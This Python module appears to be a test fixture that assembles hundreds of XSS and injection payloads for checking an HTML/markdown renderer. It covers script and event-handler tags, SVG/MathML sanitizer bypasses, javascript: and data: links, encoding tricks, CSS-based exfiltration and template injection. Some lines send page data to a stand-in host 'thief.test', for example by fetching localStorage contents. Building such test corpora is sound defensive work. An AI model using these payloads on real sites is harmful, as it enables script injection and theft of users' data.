"""Text that would run, or fetch, or lead astray, were it taken for anything but text.

`RUN` stands for a script that leaves a trace on the page, `THIEF` for an address elsewhere.
"""

import base64
import itertools
from collections.abc import Iterable

THIEF = "https://thief.test"
RUN = "(top.fired=(top.fired||0)+1)"

SCRIPTS = [
    "<script>RUN</script>", "<ScRiPt>RUN</sCrIpT>", "<script src=THIEF/a.js></script>", "<script\n>RUN</script\n>",
    "<script/x>RUN</script>", "<script>/*", "*/RUN</script>", "<scr<script>ipt>RUN</scr</script>ipt>",
    "<script type=module>RUN</script>", "<script type=module>import 'THIEF/m.js'</script>",
    "<script async defer src='//thief.test/b.js'>", "</script><script>RUN</script>", "</title><script>RUN</script>",
    "</textarea><script>RUN</script>", "</style><script>RUN</script>", "--><script>RUN</script><!--",
    "]]><script>RUN</script>", "<script>RUN//", "<noscript><p title=\"</noscript><img src=x onerror=RUN>\">",
    "<template><script>RUN</script></template>", "<script>fetch('THIEF/'+localStorage['footnote'])</script>",
    "<SCRIPT SRC=data:text/javascript,RUN></SCRIPT>", "<script>top['fi'+'red']=1</script>",
    "<script>eval(atob('dG9wLmZpcmVkPTE='))</script>", "<xml><script>RUN</script></xml>",
]  # fmt: skip

HANDLERS = [
    "<img src=x onerror=RUN>", "<img src=x onerror=\"RUN\">", "<img src='x' onerror='RUN'/>", "<IMG SRC=x ONERROR=RUN>",
    "<img/src=x/onerror=RUN>", "<img src=x\nonerror\n=\nRUN>", "<img src=x onerror=RUN//",
    "<img src=\"x\"onerror=\"RUN\">", "<body onload=RUN>", "<body onpageshow=RUN>", "<input autofocus onfocus=RUN>",
    "<select autofocus onfocus=RUN>", "<textarea autofocus onfocus=RUN>", "<details open ontoggle=RUN>",
    "<video src=x onerror=RUN>", "<audio src=x onerror=RUN>", "<video><source onerror=RUN></video>",
    "<marquee onstart=RUN>a</marquee>", "<div onmouseover=RUN>a</div>",
    "<div onpointerenter=RUN style=position:fixed;inset:0>a</div>", "<a onfocus=RUN tabindex=1 id=x>a</a>",
    "<p onclick=RUN>click</p>", "<div onanimationstart=RUN style=\"animation:x\">",
    "<div style=\"transition:1s\" ontransitionend=RUN>", "<form oninput=RUN><input>", "<iframe onload=RUN></iframe>",
    "<object onerror=RUN data=x>", "<embed src=x onload=RUN>", "<link rel=stylesheet href=x onerror=RUN>",
    "<style onload=RUN></style>", "<frameset onload=RUN>", "<button popovertarget=x onbeforetoggle=RUN>a</button>",
    "<dialog open onclose=RUN>a</dialog>", "<x contenteditable autofocus onfocus=RUN>", "\" onmouseover=\"RUN",
    "' onfocus='RUN' autofocus='", "\"><img src=x onerror=RUN>", "'><img src=x onerror=RUN>",
    "`><img src=x onerror=RUN>", "x\" autofocus onfocus=\"RUN\" y=\"",
]  # fmt: skip

VECTORS = [
    "<svg onload=RUN>", "<svg/onload=RUN>", "<svg><script>RUN</script></svg>", "<svg><script href=data:,RUN /></svg>",
    "<svg><a xlink:href=\"javascript:RUN\"><text>a</text></a></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:RUN>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=RUN>#x\"/></svg>",
    "<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>",
    "<svg><image href=THIEF/i.svg onerror=RUN></svg>", "<svg><style><img src=x onerror=RUN></style></svg>",
    "<svg><title><img src=x onerror=RUN></title></svg>", "<math><mi xlink:href=javascript:RUN>a</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=RUN>", "<math href=javascript:RUN>a</math>",
    "<svg><![CDATA[<img src=x onerror=RUN>]]></svg>", "<svg><desc><p><style></p><img src=x onerror=RUN>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>",
    "<svg></p><style><a id=\"</style><img src=x onerror=RUN>\">",
    "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"RUN\"/>",
]  # fmt: skip

FETCHES = [
    "<img src=THIEF/i.png>", "<img srcset='THIEF/j.png 2x'>", "<picture><source srcset=THIEF/k.png><img></picture>",
    "<link rel=stylesheet href=THIEF/a.css>", "<link rel=preload as=image href=THIEF/p>",
    "<link rel=prefetch href=THIEF/f>", "<link rel=dns-prefetch href=//thief.test>", "<link rel=preconnect href=THIEF>",
    "<link rel=icon href=THIEF/icon>", "<link rel=modulepreload href=THIEF/m.js>", "<iframe src=THIEF/frame></iframe>",
    "<iframe srcdoc=\"<script>parent.RUN</script>\">", "<object data=THIEF/o></object>", "<embed src=THIEF/e>",
    "<video poster=THIEF/v src=THIEF/w autoplay>", "<audio src=THIEF/s autoplay>", "<track src=THIEF/t>",
    "<base href=THIEF/>", "<meta http-equiv=refresh content=\"0;url=THIEF\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:RUN\">",
    "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
    "<form action=THIEF/f><button>a</button></form>", "<form action=javascript:RUN><input type=submit>",
    "<button formaction=javascript:RUN>a</button>", "<isindex action=javascript:RUN>",
    "<input type=image src=THIEF/x onerror=RUN>", "<table background=THIEF/b>", "<body background=THIEF/c>",
    "<html manifest=THIEF/m>", "<portal src=THIEF></portal>", "<a ping=THIEF/ping href=#>a</a>",
    "<bgsound src=THIEF/b.wav>",
]  # fmt: skip

STYLES = [
    "<style>@import 'THIEF/a.css';</style>", "<style>*{background:url(THIEF/b)}</style>",
    "<style>body{display:none}</style>", "<style>@font-face{font-family:x;src:url(THIEF/f)}*{font-family:x}</style>",
    "<div style=\"background:url(THIEF/d)\">a</div>", "<div style=\"background-image:url('javascript:RUN')\">a</div>",
    "<div style=\"width:expression(RUN)\">a</div>",
    "<div style=\"position:fixed;inset:0;z-index:99999;background:red\">covered</div>",
    "<style>input[value^=a]{background:url(THIEF/a)}</style>", "<style>@charset \"x\";</style><img src=x onerror=RUN>",
    "</style><style>*{list-style:url(THIEF/l)}", "{}*{background:url(THIEF/m)}",
    "<link rel=stylesheet href=\"data:text/css,*{background:url(THIEF/n)}\">", "<svg style=\"filter:url(THIEF/o#x)\">",
    "<p style=cursor:url(THIEF/p),auto>a</p>",
]  # fmt: skip

LINKS = [
    "[a](javascript:RUN)", "[a](JaVaScRiPt:RUN)", "[a](javascript&colon;RUN)", "[a](&#106;avascript:RUN)",
    "[a](&#x6a;avascript:RUN)", "[a](java\tscript:RUN)", "[a](java&Tab;script:RUN)", "[a](java&NewLine;script:RUN)",
    "[a](\x01javascript:RUN)", "[a]( javascript:RUN )", "[a](<javascript:RUN>)", "[a](javascript:RUN \"title\")",
    "[a](data:text/html,<script>RUN</script>)", "[a](data:text/html;base64,BASE64)", "[a](vbscript:RUN)",
    "[a](blob:null/a)", "[a](filesystem:THIEF/a)", "[a](view-source:THIEF)", "[a](about:blank)",
    "[a](file:///etc/passwd)", "[a](//thief.test/a)", "[a](\\\\thief.test\\a)", "[a](https:thief.test)",
    "[a](http://\\u0000)", "[a][b]\n\n[b]: javascript:RUN", "[a]\n\n[a]: javascript:RUN", "<javascript:RUN>",
    "<data:text/html,RUN>", "<https://thief.test/\" onclick=\"RUN>", "[a](THIEF/\"onmouseover=\"RUN)",
    "[a](THIEF \"\\\" onmouseover=RUN\")", "[a](THIEF/'onmouseover='RUN)", "[<img src=x onerror=RUN>](THIEF)",
    "https://thief.test/\"onmouseover=\"RUN", "www.thief.test/<script>RUN</script>", "mailto:a@b\"onclick=RUN",
    "[a](https://x:y@thief.test)", "[![a](javascript:RUN)](javascript:RUN)", "[a](javascript://%0aRUN)",
    "[a](javascript:%61lert(1))", "<a href=javascript:RUN>a</a>", "<a href=\"java&#10;script:RUN\">a</a>",
    "<a href=data:text/html,RUN target=_top>a</a>", "<a href=THIEF target=_self rel=opener>a</a>",
]  # fmt: skip

IMAGES = [
    "![a](THIEF/i.png)", "![a](javascript:RUN)", "![a](data:image/svg+xml,<svg onload=RUN>)",
    "![<img src=x onerror=RUN>](x)", "![a](THIEF/i.png \"\\\" onerror=RUN\")", "![a](x\"onerror=\"RUN)",
    "![a][b]\n\n[b]: THIEF/j.png", "![a](//thief.test/k.png)", "![\"onerror=\"RUN](THIEF/l.png)", "!\\[a](THIEF/m.png)",
    "![a](THIEF/?q=[1])", "[![a](THIEF/n.png)](THIEF)", "![a](<THIEF/o.png>)",
]  # fmt: skip

MARKDOWN = [
    "```html\n<script>RUN</script>\n```", "```\"onclick=\"RUN\nx\n```", "~~~<img src=x onerror=RUN>\n~~~",
    "`<img src=x onerror=RUN>`", "``` <script>RUN", "# <img src=x onerror=RUN>", "> <script>RUN</script>",
    "- <svg onload=RUN>", "1. <img src=x onerror=RUN>",
    "| <script>RUN</script> | b |\n|---|---|\n| <img src=x onerror=RUN> | c |", "**<img src=x onerror=RUN>**",
    "~~<svg onload=RUN>~~", "*[x]: <img src=x onerror=RUN>", "[^1]: <img src=x onerror=RUN>",
    "- [x] <img src=x onerror=RUN>", "<details><summary onclick=RUN>a</summary>",
    "<div markdown=1>\n\n<script>RUN</script>\n\n</div>", "a<!-- --!><img src=x onerror=RUN>-->",
    "<!--><img src=x onerror=RUN>-->", "<![CDATA[<script>RUN</script>]]>", "<?php RUN ?>",
    "<!DOCTYPE x [<!ENTITY a SYSTEM \"THIEF\">]>", "\\<img src=x onerror=RUN\\>",
]  # fmt: skip

ENTITIES = [
    "&lt;script&gt;RUN&lt;/script&gt;", "&#60;img src=x onerror=RUN&#62;", "&#x3c;svg onload=RUN&#x3e;",
    "&lt;img src=x onerror=RUN>", "&amp;lt;script&amp;gt;RUN&amp;lt;/script&amp;gt;", "%3Cscript%3ERUN%3C/script%3E",
    "\\u003cscript\\u003eRUN\\u003c/script\\u003e", "\\x3cimg src=x onerror=RUN\\x3e", "＜script＞RUN＜/script＞",
    "ʺ><img src=x onerror=RUN>", "+ADw-script+AD4-RUN+ADw-/script+AD4-", "&#0000060script&#0000062RUN",
    "&LT;script&GT;RUN", "<\u200bscript>RUN</script>", "\ufeff<script>RUN</script>", "<scr\u00adipt>RUN</script>",
]  # fmt: skip

TEMPLATES = [
    "{{constructor.constructor('RUN')()}}", "{{7*7}}", "${RUN}", "#{RUN}", "<%= RUN %>", "{% RUN %}", "[[RUN]]",
    "{{{<img src=x onerror=RUN>}}}", "<div ng-app>{{RUN}}</div>", "<div v-html=\"'<img src=x onerror=RUN>'\">",
    "<div x-data x-init=RUN>", "<div hx-get=THIEF hx-trigger=load>", "__proto__", "constructor",
    "{\"__proto__\":{\"fired\":1}}", "javascript:RUN", "data:text/html,<script>RUN</script>",
]  # fmt: skip

DIRECTIONS = [
    "\u202egnp.exe\u202c", "\u2066<img src=x onerror=RUN>\u2069", "\u202e<script>RUN</script>", "\u200f[1]\u200f",
    "a\u2028<script>RUN</script>", "\u2029event: token\u2029data: {\"text\": \"x\"}", "\r\n\r\nevent: done\r\ndata: {}",
    "\x85data: <script>RUN</script>", "\U000e0041<svg onload=RUN>", "Z\u0310\u0324" * 40 + "<img src=x onerror=RUN>",
    "\ufffd\ufffe<script>RUN</script>",
]  # fmt: skip

MARKERS = [
    "[1]<script>RUN</script>[1]", "[<img src=x onerror=RUN>]", "[1](javascript:RUN)", "[1][1][1](javascript:RUN)",
    "[999]<svg onload=RUN>", "[1\"onclick=\"RUN]", "[[1]](javascript:RUN)", "[1]: javascript:RUN", "![1](THIEF/1.png)",
    "[a [1] b](javascript:RUN)", "[1]<!--[2]-->", "<a href='javascript:RUN'>[1]</a>", "[-1] [0] [1e9] [01] [1",
    "[1]`[2]<img src=x onerror=RUN>`[3]", "[１] [¹] [١]<img src=x onerror=RUN>",
]  # fmt: skip

KINDS = (
    SCRIPTS, HANDLERS, VECTORS, FETCHES, STYLES, LINKS, IMAGES, MARKDOWN, ENTITIES, TEMPLATES, DIRECTIONS, MARKERS
)  # fmt: skip

# As the address of a source or of a creator's own page.
SCHEMES = [
    "javascript:RUN", "JAVASCRIPT:RUN", " javascript:RUN", "\x00javascript:RUN", "java\nscript:RUN", "\tjavascript:RUN",
    "javascript://example.org/%0aRUN", "data:text/html,<script>RUN</script>", "vbscript:RUN", "blob:https://x.org/a",
    "file:///etc/passwd", "about:srcdoc", "https://example.org/\"onmouseover=\"RUN", "https://x.org/'><script>RUN</script>",
    "//thief.test", "https:javascript:RUN", "http://javascript:RUN@thief.test", "ftp://thief.test",
    "view-source:javascript:RUN", "x",
]  # fmt: skip


def armed(texts: Iterable[str]) -> list[str]:
    """The texts with the script and the addresses in their places."""
    encoded = base64.b64encode(f"<script>{RUN}</script>".encode()).decode()
    return [text.replace("THIEF", THIEF).replace("BASE64", encoded).replace("RUN", RUN) for text in texts]


PAYLOADS = armed(itertools.chain(*KINDS))
ADDRESSES = armed(SCHEMES)
